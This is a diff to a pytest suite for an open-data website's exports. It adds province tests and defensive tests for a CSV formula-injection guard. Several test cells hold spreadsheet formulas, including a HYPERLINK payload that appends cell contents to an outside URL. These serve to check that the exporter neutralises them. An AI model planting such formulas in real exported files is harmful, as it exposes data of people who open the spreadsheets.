@@ -8,6 +8,7 @@ import hashlib
 import io
 import json
 import os
+import shutil
 from dataclasses import dataclass
 from pathlib import Path
 from typing import Any
@@ -16,6 +17,7 @@ import pytest
 
 from showcase import Catalogue, check_showcase, parallel
 from showcase.derive import extras
+from showcase.derive.columns import FORMULA_GUARD_NL, neutralise_formula
 from showcase.derive.dcat import export_dcat_catalogue
 from showcase.derive.downloads import LICENCE_URL, describe_downloads
 from showcase.derive.jsonld import municipality_jsonld, project_jsonld, to_script_json
@@ -286,6 +288,7 @@ def test_projects_csv_matches_json(real: Real) -> None:
         currents = list(dict.fromkeys(m["current_slug"] for m in places))
         assert row["current_municipalities"].split() == currents
         assert row["regions"].split() == [r["slug"] for r in record["regions"]]
+        assert row["provinces"].split("\n") == [p["name"] for p in record["provinces"]]
         assert row["themes"].split() == [t["slug"] for t in record["themes"]]
         assert row["theme_labels"].split("\n") == [t["label"] for t in record["themes"]]
         assert group(row, "partner_names", "partner_types", "partner_organisations") == [
@@ -315,6 +318,7 @@ def test_project_record(real: Real) -> None:
         "end",
         "municipalities",
         "regions",
+        "provinces",
         "themes",
         "partners",
         "funding",
@@ -361,6 +365,25 @@ def test_project_record(real: Real) -> None:
     assert all(set(t) == {"slug", "label", "domain"} for t in record["themes"])
     assert record["last_reviewed"] == "2026-11-26"
     assert record["url_absolute"] == f"{SITE}/projecten/{IGEAN}/"
+    assert record["provinces"] == [{"slug": "antwerpen", "name": "Antwerpen"}]
+
+
+def test_project_provinces_count_as_the_province_pages_do(real: Real) -> None:
+    """A project's provinces in the open data are those of its current municipalities and of
+    its regions' members: the projects each province page lists, no more and no fewer."""
+    catalogue = real.catalogue
+    _, rows = read_csv(real.files["projecten.csv"])
+    listed = {row["slug"]: set(row["provinces"].split("\n")) for row in rows}
+    for province in catalogue.provinces:
+        assert {slug for slug, names in listed.items() if province.name in names} == {
+            p.slug for p in province.projects
+        }, province.name
+    # A project that names no municipality gets its provinces through its regions.
+    regional = [p for p in catalogue.projects if p.regions and not p.places]
+    assert regional
+    for entry in regional:
+        members = {m.final.province.name for r in entry.regions for m in r.members}
+        assert listed[entry.slug] == members, entry.slug
 
 
 # --- The DCAT catalogue -------------------------------------------------------------------------
@@ -614,3 +637,173 @@ def test_hostile_project_text(scratch: Path) -> None:
         r for r in json.loads(files["projecten.json"]) if r["slug"] == "internet-of-water-flanders"
     )
     assert record["partners"][0]["name"] == 'VITO, "Mol"; twee\nregels'
+
+
+# --- Formulas in spreadsheets (CSV injection) ---------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("cell", "written"),
+    [
+        (
+            '=HYPERLINK("https://example.org/?d="&A1;"klik")',
+            '\'=HYPERLINK("https://example.org/?d="&A1;"klik")',
+        ),
+        ("+32 9 123 45 67", "'+32 9 123 45 67"),
+        ("-A1+B1", "'-A1+B1"),
+        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
+        ("\t=1+1", "'\t=1+1"),
+        ("\r=1+1", "'\r=1+1"),
+        ("=", "'="),
+        # Plain numbers stay numbers: a spreadsheet reads them as numbers, never as formulas.
+        ("-3", "-3"),
+        ("-2.5", "-2.5"),
+        ("200000", "200000"),
+        # Only the start of a cell counts; a quote in front already makes it text.
+        ("a=b", "a=b"),
+        ("Sint-Niklaas", "Sint-Niklaas"),
+        ("'=1+1", "'=1+1"),
+        ("", ""),
+        ("-3\n=1+1", "'-3\n=1+1"),
+    ],
+)
+def test_neutralise_formula(cell: str, written: str) -> None:
+    assert neutralise_formula(cell) == written
+
+
+def test_every_csv_writes_no_formula() -> None:
+    """The guard sits in the one function that writes every CSV: cells and header."""
+    data = _csv_bytes(["=kolom", "n"], [['=HYPERLINK("x")', "-3"], ["@a", "-1.5"]])
+    assert data.decode("utf-8") == ('\'=kolom,n\n"\'=HYPERLINK(""x"")",-3\n\'@a,-1.5\n')
+
+
+def test_no_cell_of_the_real_csvs_starts_a_formula(real: Real) -> None:
+    for name, data in real.files.items():
+        if not name.endswith(".csv"):
+            continue
+        _, rows = read_csv(data)
+        for row in rows:
+            for column, cell in row.items():
+                assert neutralise_formula(cell) == cell, (name, column, cell)
+
+
+# --- What the open-data page says about the files ----------------------------------------------
+
+
+def test_every_csv_column_is_described(real: Real) -> None:
+    """The columns of each CSV come from showcase.derive.columns, with what each holds."""
+    csvs = [d for d in describe_downloads() if d.media_type == "text/csv"]
+    assert [d.file_name for d in csvs] == ["gemeenten.csv", "projecten.csv", "opschalen.csv"]
+    for download in csvs:
+        header, _ = read_csv(real.files[download.file_name])
+        assert [c.name for c in download.columns] == header, download.file_name
+        for column in download.columns:
+            assert column.description.strip(), (download.file_name, column.name)
+        assert FORMULA_GUARD_NL in download.description
+    assert all(not d.columns for d in describe_downloads() if d.media_type != "text/csv")
+
+
+def test_one_heading_per_file_and_each_source_once() -> None:
+    downloads = describe_downloads()
+    headings = [d.heading for d in downloads]
+    assert headings == [
+        "Gemeenten (JSON)",
+        "Gemeenten (CSV)",
+        "Gemeenten op de kaart (GeoJSON)",
+        "Projecten (JSON)",
+        "Projecten (CSV)",
+        "Opschalen (JSON)",
+        "Opschalen (CSV)",
+        "DCAT-AP-catalogus (JSON-LD)",
+    ]
+    for download in [*downloads, *describe_downloads(with_geometry=False)]:
+        names = [s.name for s in download.sources]
+        assert len(names) == len(set(names)), download.file_name
+    geojson = next(d for d in downloads if d.file_name == "gemeenten.geojson")
+    credit = next(s for s in geojson.sources if s.name == "Provincies in Cijfers")
+    assert "fusies" in credit.note and "gemeentegrenzen" in credit.note
+
+
+# --- A hostile title, published --------------------------------------------------------------
+
+
+def test_published_open_data_with_a_hostile_title(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """A scratch site built with publishconf.py (SHOWCASE_SITEURL sets the address): absolute
+    URLs in the files, no live formula in the CSV, and the open-data page as a visitor reads it."""
+    from bs4 import BeautifulSoup
+
+    from pelican_showcase.build import build
+
+    from .conftest import FIXTURES
+
+    site = "https://example.org/showcase"
+    shutil.copytree(ROOT / "data", tmp_path / "data")
+    shutil.copytree(ROOT / "content", tmp_path / "content")
+    for folder in (FIXTURES / "content").iterdir():
+        shutil.copytree(folder, tmp_path / "content" / folder.name, dirs_exist_ok=True)
+    for name in ("pelicanconf.py", "publishconf.py"):
+        shutil.copy(ROOT / name, tmp_path / name)
+    hostile = '=HYPERLINK("https://example.org/?d="&A1;"Internet of Water")'
+    path = tmp_path / "content/projecten/internet-of-water-flanders.md"
+    text = path.read_text(encoding="utf-8")
+    text = text.replace('title: "Internet of Water Flanders"', f"title: '{hostile}'")
+    path.write_text(text, encoding="utf-8")
+    path = tmp_path / f"content/projecten/{IGEAN}.md"
+    text = path.read_text(encoding="utf-8").replace('  - name: "IGEAN"', '  - name: "-40"')
+    path.write_text(text, encoding="utf-8")
+    monkeypatch.setenv("SHOWCASE_SITEURL", site)
+    overrides = {
+        "THEME": str(ROOT / "theme"),
+        "PLUGIN_PATHS": [str(ROOT / "plugins")],
+        "SHOWCASE_CHECK_HTML": False,
+    }
+    output = tmp_path / "output"
+    assert build(tmp_path / "publishconf.py", output, overrides=overrides) == 0
+
+    folder = output / "open-data"
+    _, rows = read_csv((folder / "projecten.csv").read_bytes())
+    row = next(r for r in rows if r["slug"] == "internet-of-water-flanders")
+    assert row["title"] == f"'{hostile}"
+    assert row["partner_names"].startswith("VITO\nimec\n")
+    assert row["funding_amounts_eur"] == "9000000"
+    igean = next(r for r in rows if r["slug"] == IGEAN)
+    assert igean["partner_names"] == "-40"  # a number stays a number
+    for name in ("projecten.csv", "gemeenten.csv"):
+        _, rows = read_csv((folder / name).read_bytes())
+        assert all(r["url_absolute"] == f"{site}{r['url']}" for r in rows), name
+    records = json.loads((folder / "projecten.json").read_text(encoding="utf-8"))
+    record = next(r for r in records if r["slug"] == "internet-of-water-flanders")
+    assert record["title"] == hostile  # the JSON keeps the text as written
+    assert all(r["url_absolute"] == f"{site}{r['url']}" for r in records)
+    catalogue = json.loads((folder / "catalogus.jsonld").read_text(encoding="utf-8"))
+    assert catalogue["@id"] == f"{site}/open-data/#catalogus"
+    for dataset in catalogue["dcat:dataset"]:
+        assert dataset["@id"].startswith(f"{site}/open-data/#")
+        for distribution in dataset["dcat:distribution"]:
+            assert distribution["dcat:downloadURL"]["@id"].startswith(f"{site}/open-data/")
+    page = (output / "projecten/internet-of-water-flanders/index.html").read_text("utf-8")
+    jsonld = BeautifulSoup(page, "html.parser").select_one('script[type="application/ld+json"]')
+    assert jsonld is not None
+    assert json.loads(jsonld.string or "")["url"] == f"{site}/projecten/internet-of-water-flanders/"
+
+    soup = BeautifulSoup((folder / "index.html").read_text("utf-8"), "html.parser")
+    items = soup.select("ul.downloads > li")
+    headings = [li.h2.get_text(" ", strip=True) for li in items if li.h2]
+    assert headings == [d.heading for d in describe_downloads()]
+    assert not any(h.count("(") > 1 or "JSON_LD" in h for h in headings)
+    for li in items:
+        credits = [a.get_text(strip=True) for a in li.select("p.muted a")][1:]  # after licence
+        assert len(credits) == len(set(credits)), credits
+        link = li.h2.a if li.h2 else None
+        assert link is not None and link["href"].startswith(f"{site}/open-data/")
+    described = {}
+    for li in items:
+        columns = [dt.get_text(strip=True) for dt in li.select("details.csv-columns dt")]
+        if columns:
+            described[li.select_one("p.muted").get_text(strip=True)] = columns
+    for name in ("gemeenten.csv", "projecten.csv", "opschalen.csv"):
+        header, _ = read_csv((folder / name).read_bytes())
+        assert described[name] == header, name
+    assert soup.get_text().count(FORMULA_GUARD_NL) == 3
